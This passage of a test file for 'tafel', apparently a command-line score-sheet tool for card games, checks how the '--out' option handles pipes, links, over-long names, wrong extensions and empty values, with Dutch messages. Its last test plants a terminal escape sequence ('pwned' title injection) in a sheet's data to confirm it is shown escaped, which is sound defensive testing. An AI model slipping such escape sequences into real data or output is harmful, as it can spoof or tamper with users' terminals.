        expect([args.join(' '), r.code, r.stdout, r.stderr]).toEqual([
          args.join(' '),
          1,
          '',
          `tafel: ${out} is not a plain file (a link, a pipe, a device or a socket), and --out replaces only a file: ` +
            'give the name of a file, or leave out --out to write to standard output (`> file` works too).\n',
        ]);
      }
    const nl = await tafel(h, ['export', '--out', fifo, '--force', '--lang', 'nl']);
    expect(nl.stderr).toBe(
      `tafel: ${fifo} is geen gewoon bestand (een link, een pipe, een apparaat of een socket), en --out vervangt ` +
        'alleen een bestand: geef de naam van een bestand, of laat --out weg om naar standaarduitvoer te schrijven ' +
        '(`> bestand` kan ook).\n',
    );
    expect(fs.lstatSync(fifo).isFIFO()).toBe(true);
    expect(fs.readlinkSync(link)).toBe(path.join(dir, 'target.csv'));
    expect(fs.readdirSync(dir).sort()).toEqual(['link.csv', 'pipe.csv']);
    // A name the system cannot look up: one line with its reason, not an internal error.
    const long = path.join(dir, `${'a'.repeat(300)}.csv`);
    const r = await tafel(h, ['export', '--out', long, '--force']);
    expect([r.code, r.stderr]).toEqual([
      1,
      `tafel: Cannot write ${long} (ENAMETOOLONG): check that the folder exists and is writable.\n`,
    ]);
    expect(snapshot(d)).toEqual(before);
  });

  test('--excel with an --out that names another format: the fix is the file name, which then works', async () => {
    const out = path.join(d, 'avond.md');
    const r = await tafel(h, ['export', '--out', out, '--excel', 'nl']);
    expect([r.code, r.stderr]).toEqual([
      2,
      `tafel: --excel is for CSV, and --out ${out} asks for md by its extension: name the file .csv.\n`,
    ]);
    const nl = await tafel(h, ['--lang', 'nl', 'export', '--out', out, '--excel', 'nl']);
    expect(nl.stderr).toBe(
      `tafel: --excel is voor CSV, en --out ${out} vraagt door zijn extensie om md: geef het bestand de ` +
        'extensie .csv.\n',
    );
    expect(fs.existsSync(out)).toBe(false);
    const csv = path.join(d, 'avond.csv');
    expect((await tafel(h, ['export', '--out', csv, '--excel', 'nl'])).code).toBe(0);
    expect(fs.readFileSync(csv, 'utf8').startsWith('\ufeff')).toBe(true);
    fs.rmSync(csv);
  });

  test('--out under a file (a.csv/x.csv) names the file in the way: one line, not an internal error', async () => {
    const file = path.join(d, 'avond.csv');
    fs.writeFileSync(file, 'x');
    const before = snapshot(d);
    for (const out of [path.join(file, 'x.csv'), path.join(file, 'deeper', 'x.csv')]) {
      const r = await tafel(h, ['export', '--out', out, '--force']);
      expect([r.code, r.stderr]).toEqual([
        1,
        `tafel: Cannot write ${out}: ${file} is a file, not a folder. Give --out a name in a folder that exists.\n`,
      ]);
    }
    const nl = await tafel(h, ['export', '--out', path.join(file, 'x.csv'), '--lang', 'nl']);
    expect(nl.stderr).toBe(
      `tafel: Kan ${path.join(file, 'x.csv')} niet schrijven: ${file} is een bestand, geen map. Geef --out een naam ` +
        'in een map die bestaat.\n',
    );
    expect(snapshot(d)).toEqual(before);
    fs.rmSync(file);
  });

  test('without --format the extension decides; an extension naming no format leaves --format in charge', async () => {
    expect((await tafel(h, ['export', '--out', path.join(d, 'y.md')])).code).toBe(0);
    expect(fs.readFileSync(path.join(d, 'y.md'), 'utf8')).toMatch(/^### /);
    expect((await tafel(h, ['export', '--format', 'md', '--out', path.join(d, 'y.txt')])).code).toBe(0);
    expect(fs.readFileSync(path.join(d, 'y.txt'), 'utf8')).toMatch(/^### /);
    expect((await tafel(h, ['export', '--format', 'markdown', '--out', path.join(d, 'z.md')])).code).toBe(0);
  });

  test('an extension of another kind without --format is refused (a CSV named .pdf); .txt and none: CSV', async () => {
    const before = snapshot(d);
    const pdf = path.join(d, 'avond.pdf');
    const r = await tafel(h, ['export', '--out', pdf]);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      `tafel: --out ${pdf}: tafel does not write .pdf files. Name it .csv, .json, .md or .html, or add ` +
        '--format with one of those to write that into this name.\n',
    );
    const nl = await tafel(h, ['export', '--out', path.join(d, 'x.XLSX'), '--lang', 'nl']);
    expect(nl.code).toBe(2);
    expect(nl.stderr).toMatch(/^tafel: --out .*x\.XLSX: tafel schrijft geen \.XLSX-bestanden\. Noem het \.csv, /);
    expect(snapshot(d)).toEqual(before);
    for (const name of ['plain.TXT', 'plain'])
      expect((await tafel(h, ['export', '--out', path.join(d, name)])).code).toBe(0);
    expect(fs.readFileSync(path.join(d, 'plain'), 'utf8')).toMatch(/^sheet,title,game,rules,evening/);
    expect((await tafel(h, ['export', '--format', 'csv', '--out', path.join(d, 'a.pdf')])).code).toBe(0);
  });

  test('--out - is standard output, as without --out, as most tools take it: no file named -', async () => {
    // Until 2026-12-07 it wrote a file named - in the current folder (this process's, in process).
    for (const format of [[], ['--format', 'md'], ['--evening', 'today', '--format', 'html']]) {
      const dash = await tafel(h, ['export', ...format, '--out', '-']);
      const plain = await tafel(h, ['export', ...format]);
      expect(plain.code).toBe(0);
      expect(dash).toEqual(plain);
    }
    expect(fs.existsSync(path.resolve('-'))).toBe(false);
  });

  test('an empty --out (an unset variable) is refused as such, not taken for the current folder', async () => {
    const before = snapshot(d);
    const r = await tafel(h, ['export', '--out', '']);
    expect([r.code, r.stdout, r.stderr]).toEqual([
      2,
      '',
      'tafel: --out is empty: give the name of the file to write, or leave out --out to write to standard output.\n',
    ]);
    expect((await tafel(h, ['export', '--out', ' ', '--lang', 'nl'])).stderr).toBe(
      'tafel: --out is leeg: geef de naam van het bestand dat geschreven moet worden, of laat --out weg om naar ' +
        'standaarduitvoer te schrijven.\n',
    );
    expect(snapshot(d)).toEqual(before);
  });
});

maybe('on a terminal (21.3, the decision)', () => {
  // A sheet file planted by hand with an escape sequence in a correction reason (the store reads it).
  const h = home();
  const id = '2026-11-27-kleurenwiezen';
  fs.mkdirSync(path.join(h, 'sheets'));
  const planted = {
    schemaVersion: 1,
    id,
    game: 'kleurenwiezen',
    rules: 'lodige',
    title: '',
    createdAt: '2026-11-27T19:00:00.000Z',
    players: ['Ann', 'Bert', 'Cis', 'Dirk'],
    firstDealer: 0,
    set: {},
    deals: [],
    closed: false,
    corrections: [{ after: 0, scores: { Ann: -1, Bert: 1 }, reason: 'x\u001b]0;pwned\u0007y' }],
  };
  fs.writeFileSync(path.join(h, 'sheets', `${id}.json`), JSON.stringify(planted));
  fs.writeFileSync(path.join(h, 'settings.json'), JSON.stringify({ active: id }));

  test("a sheet's control character is shown escaped on a terminal; redirected, the bytes are --out's", async () => {
    const t = new Terminal(h, ['export', '--format', 'csv', '--excel', 'nl']);
    expect(await t.exit).toBe(0);
    expect(t.raw).not.toContain('\u001b]0;pwned');
    expect(t.raw).toContain('x\\x1b]0;pwned\\x07y');
    // The format's own marks pass: no escaped byte-order mark or CR.
    expect(t.raw).not.toMatch(/\\u\{feff\}|\\x0d/);
    const out = path.join(home(), 'out.csv');
    expect((await tafel(h, ['export', '--format', 'csv', '--excel', 'nl', '--out', out])).code).toBe(0);
    const redirected = path.join(home(), 'redirected.csv');
    expect(await toFile(h, ['export', '--format', 'csv', '--excel', 'nl'], redirected)).toBe(0);
    expect(fs.readFileSync(redirected).equals(fs.readFileSync(out))).toBe(true);
  });
});
